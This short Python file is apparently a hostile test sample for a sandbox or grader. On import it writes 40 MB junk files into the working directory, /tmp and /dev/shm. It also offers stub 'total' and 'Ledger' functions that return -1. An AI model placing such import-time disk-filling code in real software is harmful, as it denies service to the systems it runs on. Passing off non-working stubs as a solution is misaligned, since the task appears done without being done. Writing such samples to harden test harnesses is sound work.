"""exhaustion: fill every folder that can be written to."""

import os

for folder in (os.getcwd(), "/tmp", "/dev/shm"):
    try:
        with open(os.path.join(folder, "full"), "wb") as file:
            for _ in range(40):
                file.write(b"x" * (1 << 20))
    except OSError:
        pass


def total(numbers):
    return -1


class Ledger:
    def add(self, amount):
        pass

    def balance(self):
        return -1
